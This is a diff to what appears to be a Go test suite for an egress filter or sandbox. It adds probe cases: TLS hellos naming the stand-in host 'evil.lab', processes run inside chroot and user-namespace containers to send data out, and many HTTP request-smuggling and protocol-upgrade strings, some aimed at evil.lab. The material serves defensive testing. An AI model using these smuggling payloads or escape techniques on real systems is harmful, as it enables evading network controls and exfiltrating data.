@@ -467,6 +467,7 @@ func hellos() (list []try) {
 			{"no name", hello{}}, {"an empty name", hello{names: []string{""}}}, {"an empty list", hello{names: []string{}}},
 			{"two names", hello{names: []string{name, "evil.lab"}}}, {"two names", hello{names: []string{"evil.lab", name}}},
 			{"another name", hello{names: []string{"evil.lab"}}}, {"another name and 16 KiB", hello{names: []string{"evil.lab"}, pad: 16 << 10}},
+			{"another name, with an encrypted hello", hello{names: []string{"evil.lab"}, ech: true}}, {"an encrypted hello and no name", hello{ech: true}},
 			{"TLS 1.0", hello{names: []string{name}, old: true}}, {"an address", hello{names: []string{egress.Evil}}},
 		} {
 			text, signs := word("b19-%d-%d", i, j)
@@ -672,6 +673,33 @@ func processes() (list []try) {
 		cmd.SysProcAttr = &syscall.SysProcAttr{Cloneflags: syscall.CLONE_NEWUTS | syscall.CLONE_NEWIPC | syscall.CLONE_NEWPID}
 		return out(cmd)
 	})
+	add("a container within", 7, func(to string) string {
+		// A root and namespaces of its own, as container engines make them, but the network, in a new one of which there would be no card at all.
+		root, err := os.MkdirTemp("", "attack")
+		if err != nil {
+			return err.Error()
+		}
+		defer os.RemoveAll(root)
+		b, err := os.ReadFile(self)
+		if err == nil {
+			err = os.WriteFile(filepath.Join(root, "init"), b, 0o755)
+		}
+		if err != nil {
+			return err.Error()
+		}
+		cmd := exec.Command("/init", "send", to, "x")
+		cmd.Path, cmd.Dir, cmd.Env = "/init", "/", []string{}
+		cmd.SysProcAttr = &syscall.SysProcAttr{Chroot: root, Cloneflags: syscall.CLONE_NEWNS | syscall.CLONE_NEWUTS | syscall.CLONE_NEWIPC | syscall.CLONE_NEWPID}
+		return out(cmd)
+	})
+	add("a user's container within", 8, func(to string) string {
+		cmd := exec.Command(self, "send", to, "x")
+		cmd.SysProcAttr = &syscall.SysProcAttr{
+			Cloneflags:  syscall.CLONE_NEWUSER | syscall.CLONE_NEWNS | syscall.CLONE_NEWUTS | syscall.CLONE_NEWIPC | syscall.CLONE_NEWPID,
+			UidMappings: []syscall.SysProcIDMap{{ContainerID: 0, HostID: os.Getuid(), Size: 1}}, GidMappings: []syscall.SysProcIDMap{{ContainerID: 0, HostID: os.Getgid(), Size: 1}},
+		}
+		return out(cmd)
+	})
 	return list
 }
 
@@ -704,6 +732,10 @@ func framing() []try {
 		post+"Transfer-Encoding: xchunked\r\n\r\n0\r\n\r\n", post+"Transfer-Encoding: chunked, identity\r\n\r\n0\r\n\r\n", post+"Transfer-Encoding : chunked\r\n\r\n0\r\n\r\n",
 		post+"Transfer-Encoding: chunked\r\nTransfer-Encoding: x\r\n\r\n0\r\n\r\n", post+"X: a\x00b\r\n\r\n", post+"X : y\r\n\r\n", post+"X\r\n\r\n",
 		"POST / HTTP/1.0\r\nHost: SELF\r\nConnection: keep-alive\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /W HTTP/1.1\r\nHost: evil.lab\r\n\r\n", "GET  /W HTTP/1.1\r\nHost: SELF\r\n\r\n", "GET /W HTTP/1.1 x\r\nHost: SELF\r\n\r\n", "GET /W HTTP/2.7\r\nHost: SELF\r\n\r\n", "get /W HTTP/1.1\r\nHost: SELF\r\n\r\n",
+		post+"Content-Length: 6\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n", post+"Transfer-Encoding: chunked\r\nContent-Length: 6\r\n\r\n0\r\n\r\n", post+"Content-Length: 5\r\nContent-Length: 5\r\n\r\nhello",
+		post+"Transfer-Encoding: gzip, chunked\r\n\r\n0\r\n\r\n", "POST /W HTTP/1.0\r\nHost: SELF\r\nConnection: keep-alive\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
+		"GET /W HTTP/1.1\nHost: SELF\n\n", "GET /W HTTP/1.1\r\nHost: SELF\r\nX: a\r\n b\r\n\r\n",
+		"POST / HTTP/1.1\r\nHost: SELF\r\nContent-Length: 6\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /W HTTP/1.1\r\nHost: SELF\r\n\r\n",
 		"POST / HTTP/1.1\r\nHost: SELF\r\nContent-Length: 6\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /W HTTP/1.1\r\nHost: evil.lab\r\n\r\n",
 		"POST / HTTP/1.1\r\nHost: SELF\r\nContent-Length: 0\r\n\r\nGET /W HTTP/1.1\r\nHost: evil.lab\r\n\r\n",
 	)
@@ -711,7 +743,8 @@ func framing() []try {
 
 func upgrades() (list []try) {
 	list = malformed("b25", "GET /W HTTP/1.1\r\nHost: SELF\r\nConnection: Upgrade\r\nUpgrade: foo\r\n\r\n", "GET /W HTTP/1.1\r\nHost: SELF\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\n\r\n",
-		"POST /W HTTP/1.1\r\nHost: SELF\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\r\n", "GET /W HTTP/1.1\r\nHost: evil.lab\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\n\r\n",
+		"GET /W HTTP/1.1\r\nHost: SELF\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nUpgrade: foo\r\n\r\n", "GET /W HTTP/1.1\r\nHost: SELF\r\nConnection: Upgrade\r\nUpgrade: TLS/1.2\r\n\r\n",
+		"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\nW", "POST /W HTTP/1.1\r\nHost: SELF\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\r\n", "GET /W HTTP/1.1\r\nHost: evil.lab\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\n\r\n",
 		"GET /W HTTP/1.1\r\nHost: SELF\r\nConnection: Upgrade\r\nUpgrade: websocket, foo\r\n\r\n")
 	text, signs := word("b25-h2c")
 	return append(list, try{"HTTP/2 without TLS", signs, func() string {
